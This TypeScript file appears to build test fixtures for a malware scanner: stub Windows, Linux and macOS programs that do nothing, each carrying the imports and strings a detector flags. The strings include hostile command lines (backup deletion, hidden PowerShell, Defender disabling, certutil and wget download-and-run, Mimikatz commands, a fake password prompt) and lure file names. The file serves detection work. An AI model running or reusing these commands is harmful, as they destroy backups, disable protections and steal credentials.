// Programs whose imports and texts tell a whole story; their code returns at once.
import { writeZip } from '../../archives/write-zip.ts'
import { buildElf, type ElfRecipe } from '../../elf/build-elf.ts'
import { buildMacho } from '../../macho/build-macho.ts'
import { buildPe } from '../../pe/build-pe.ts'
import type { PeRecipe } from '../../pe/pe-recipe.ts'
import { writeOneNote } from '../write-onenote.ts'
import type { Suspect } from './suspect.ts'

type Label = Suspect['label']

const pe = (name: string, label: Label, reasons: readonly string[], recipe: PeRecipe): Suspect => ({
  name,
  label,
  reasons,
  bytes: buildPe(recipe),
})
const elf = (name: string, label: Label, reasons: readonly string[], recipe: ElfRecipe): Suspect => ({
  name,
  label,
  reasons,
  bytes: buildElf(recipe),
})

const KERNEL = 'KERNEL32.dll'
const run = { 'SHELL32.dll': ['ShellExecuteW'] }
const fetch = { 'urlmon.dll': ['URLDownloadToFileW'], ...run }

const windows: readonly Suspect[] = [
  pe('stealer.exe', 'malicious', ['pe_reads_browser_passwords', 'pe_talks_to_public_service'], {
    imports: { 'CRYPT32.dll': ['CryptUnprotectData'], 'WININET.dll': ['HttpSendRequestW'] },
    strings: ['\\Google\\Chrome\\User Data\\', '\\Login Data', 'logins.json', 'wallet.dat', 'exodus.wallet'],
    wideStrings: ['https://api.telegram.org/bot123456:ABC/sendDocument'],
  }),
  pe('locker.exe', 'malicious', ['pe_ransomware', 'pe_deletes_backups', 'pe_ransom_note'], {
    bits: 64,
    imports: { [KERNEL]: ['FindFirstFileW', 'FindNextFileW'], 'bcrypt.dll': ['BCryptEncrypt', 'BCryptGenRandom'] },
    strings: ['vssadmin delete shadows /all /quiet', 'wbadmin delete catalog -quiet'],
    wideStrings: ['All your files have been encrypted', 'How to decrypt your files: http://example.onion'],
  }),
  pe('keylogger.exe', 'suspicious', ['pe_logs_keystrokes', 'pe_starts_with_windows'], {
    imports: {
      'USER32.dll': ['SetWindowsHookExW', 'GetAsyncKeyState', 'GetForegroundWindow'],
      'ADVAPI32.dll': ['RegSetValueExW'],
      'WININET.dll': ['FtpPutFileW'],
    },
    strings: ['[BACKSPACE]', '[CapsLock]', '[ENTER]'],
    wideStrings: ['Software\\Microsoft\\Windows\\CurrentVersion\\Run'],
  }),
  pe('hollow.exe', 'malicious', ['pe_hollows_processes'], {
    imports: {
      [KERNEL]: ['CreateProcessW', 'WriteProcessMemory', 'SetThreadContext', 'ResumeThread', 'VirtualAllocEx'],
      'ntdll.dll': ['NtUnmapViewOfSection'],
    },
    strings: ['C:\\Windows\\SysWOW64\\svchost.exe'],
  }),
  pe('inject.dll', 'suspicious', ['pe_injects_into_processes'], {
    dll: true,
    imports: { [KERNEL]: ['OpenProcess', 'VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'] },
    strings: ['explorer.exe'],
  }),
  pe('reflective.dll', 'malicious', ['pe_reflective_loader'], {
    dll: true,
    bits: 64,
    exports: { library: 'r.dll', names: ['ReflectiveLoader'] },
  }),
  pe('dumper.exe', 'malicious', ['pe_dumps_lsass'], {
    imports: { 'dbghelp.dll': ['MiniDumpWriteDump'], [KERNEL]: ['OpenProcess'] },
    strings: ['lsass.exe', 'SeDebugPrivilege'],
  }),
  pe('credentials.exe', 'malicious', ['pe_credential_tool'], {
    strings: ['sekurlsa::logonpasswords', 'lsadump::sam', 'kerberos::golden'],
  }),
  pe('downloader.exe', 'suspicious', ['pe_downloads_and_runs', 'pe_runs_hidden_powershell'], {
    imports: fetch,
    wideStrings: ['powershell.exe -w hidden -ep bypass -enc SQBFAFgA', 'http://203.0.113.7/a.exe'],
  }),
  pe('disabler.exe', 'suspicious', ['pe_turns_security_off', 'pe_bypasses_account_control'], {
    imports: run,
    strings: [
      'powershell Set-MpPreference -DisableRealtimeMonitoring $true',
      'Software\\Classes\\ms-settings\\shell\\open\\command',
      'fodhelper.exe',
    ],
  }),
  pe('patcher.exe', 'suspicious', ['pe_blinds_script_scanning'], {
    imports: { [KERNEL]: ['VirtualProtect', 'GetProcAddress', 'LoadLibraryA'] },
    strings: ['amsi.dll', 'AmsiScanBuffer', 'EtwEventWrite'],
  }),
  pe('evader.exe', 'suspicious', ['pe_looks_for_sandboxes', 'pe_looks_for_analysis_tools'], {
    imports: { [KERNEL]: ['CheckRemoteDebuggerPresent'], 'ntdll.dll': ['NtQueryInformationProcess'] },
    strings: [
      ...['VBoxGuest', 'vmtoolsd.exe', 'qemu-ga.exe', 'SbieDll.dll'],
      ...['wireshark.exe', 'ollydbg.exe', 'x64dbg.exe', 'procmon.exe'],
    ],
  }),
  pe('miner.exe', 'suspicious', ['pe_mines_cryptocurrency'], {
    bits: 64,
    strings: ['stratum+tcp://pool.test:3333', 'donate-level', 'cryptonight', 'randomx'],
  }),
  pe('invoice.pdf.exe', 'suspicious', ['double_extension'], { imports: run }),
  pe('photo\u202egnp.exe', 'suspicious', ['reversed_file_name'], { imports: run }),
  pe(`report.pdf${' '.repeat(60)}.exe`, 'suspicious', ['padded_file_name'], { imports: run }),
  pe('letter.docx', 'suspicious', ['program_behind_harmless_name'], { imports: run }),
  pe('picture.jpg', 'suspicious', ['program_behind_harmless_name'], { imports: run }),
  pe('driver.scr', 'suspicious', ['pe_injects_into_processes', 'pe_deletes_itself'], {
    imports: { [KERNEL]: ['VirtualAllocEx', 'WriteProcessMemory', 'QueueUserAPC'] },
    strings: ['cmd.exe /c ping 127.0.0.1 -n 3 > nul & del "%s"'],
  }),
  pe('persist.exe', 'suspicious', ['pe_creates_scheduled_task', 'pe_runs_system_binaries_for_download'], {
    imports: run,
    strings: [
      'schtasks /create /tn u /tr a.exe /sc onlogon',
      'certutil -urlcache -split -f http://203.0.113.7/a a.exe',
    ],
  }),
]

const unix: readonly Suspect[] = [
  elf('bot', 'malicious', ['elf_botnet'], {
    machine: 8,
    endian: 'big',
    bits: 32,
    strings: ['udpflood', 'synflood', 'vizxv', 'xc3511', 'juantech', '/bin/busybox', '/dev/watchdog'],
  }),
  elf('rootkit.so', 'suspicious', ['elf_preload_rootkit'], {
    type: 3,
    strings: ['/etc/ld.so.preload'],
    imports: ['dlsym'],
    exports: ['readdir', 'fopen', 'unlink'],
  }),
  elf('rootkit.ko', 'suspicious', ['elf_kernel_rootkit'], {
    type: 1,
    sections: [{ name: '.modinfo', data: Buffer.from('license=GPL\0') }],
    strings: ['sys_call_table', 'hide_pid'],
  }),
  elf('miner', 'suspicious', ['elf_mines_cryptocurrency', 'elf_kills_rivals'], {
    strings: ['stratum+tcp://pool.test', 'cryptonight', 'donate-level', 'pkill -f xmr', 'kdevtmpfsi'],
  }),
  elf('connector', 'suspicious', ['elf_small_shell_connector'], {
    imports: ['socket', 'connect', 'dup2', 'execve'],
    strings: ['/bin/sh'],
  }),
  elf('dropper', 'suspicious', ['elf_downloads_and_runs', 'elf_makes_itself_permanent'], {
    strings: [
      ...['wget http://192.0.2.1/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a', '/etc/cron.d/x', '/etc/rc.local', '/tmp/.x'],
      ...['iptables -F', 'setenforce 0', 'history -c', '/var/log/wtmp', 'HISTFILE=/dev/null'],
    ],
  }),
  elf('invoice.pdf', 'suspicious', ['program_behind_harmless_name'], { imports: ['socket'] }),
  {
    name: 'stealer.macho',
    label: 'malicious',
    reasons: ['macho_steals_credentials'],
    bytes: buildMacho({
      strings: [
        'osascript -e \'display dialog "Please enter your password" default answer "" with hidden answer\'',
        'Library/Keychains/login.keychain-db',
        'Library/Application Support/Google/Chrome/Default/Login Data',
        'Library/Application Support/Firefox/Profiles',
        'dscl /Local/Default -authonly',
        'exodus.wallet',
      ],
    }),
  },
]

const program = buildPe({ imports: run })

/** The same programs where mail brings them: in a picture, a note, a disk image's stand-in, an archive with a lure. */
const carried: readonly Suspect[] = [
  {
    name: 'appended.png',
    label: 'suspicious',
    reasons: ['program_appended_to_picture'],
    bytes: Buffer.concat([
      Buffer.from(
        '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63fcffff3f030005fe02fea135818a0000000049454e44ae426082',
        'hex',
      ),
      program,
    ]),
  },
  {
    name: 'notes.one',
    label: 'malicious',
    reasons: ['onenote_embeds_program'],
    bytes: writeOneNote(
      [{ name: 'invoice.pdf\u202eexe.wsf', bytes: Buffer.from('<job><script>WScript.Echo(1)</script></job>') }],
      'Double click to view the document',
    ),
  },
  {
    name: 'invoice.zip',
    label: 'suspicious',
    reasons: ['double_extension'],
    bytes: writeZip([{ name: 'Invoice_2031.pdf.scr', bytes: program }]),
  },
]

export const programSuspects: readonly Suspect[] = [...windows, ...unix, ...carried]
